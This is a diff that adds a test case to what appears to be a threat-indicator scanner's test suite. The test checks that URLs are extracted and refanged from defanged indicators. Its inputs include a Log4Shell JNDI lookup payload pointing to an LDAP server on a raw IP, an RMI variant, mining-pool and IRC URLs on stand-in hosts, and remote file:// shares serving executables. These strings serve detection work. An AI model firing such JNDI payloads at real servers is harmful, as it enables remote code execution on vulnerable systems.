@@ -161,6 +161,15 @@ suite('scanText: context beats regex', () => {
 			'reference https://www.vendor-research.com/blog',
 		]);
 	});
+	test('links with the schemes exploits and malware use are URLs (Log4Shell, IRC, SOCKS, mining pools); h[xx]p and h__p are defanged schemes', () => {
+		assert.deepEqual(found('${jndi:ldap://45.9.148.71:1389/Exploit} ${jndi:rmi://evil[.]com:1099/a} stratum+tcp://pool.evil316[.]com:3333 irc://irc.evil[.]net:6667/#c'), [
+			'url ldap://45.9.148.71:1389/Exploit',
+			'url rmi://evil.com:1099/a',
+			'url stratum+tcp://pool.evil316.com:3333',
+			'url irc://irc.evil.net:6667/#c',
+		]);
+		assert.deepEqual(found('h[xx]ps://evil7[.]com/a and h__p://evil8[.]com/b'), ['url https://evil7.com/a', 'url http://evil8.com/b']);
+	});
 	test('file:// URLs of remote shares are URLs; a WebDAV `@SSL` or `@port` ends the host; local files are not', () => {
 		assert.deepEqual(found('file://46.8.19[.]163/mise/server.exe and file://5.181.159[.]76@80/Downloads/alpha.url'), [
 			'url file://46.8.19.163/mise/server.exe',
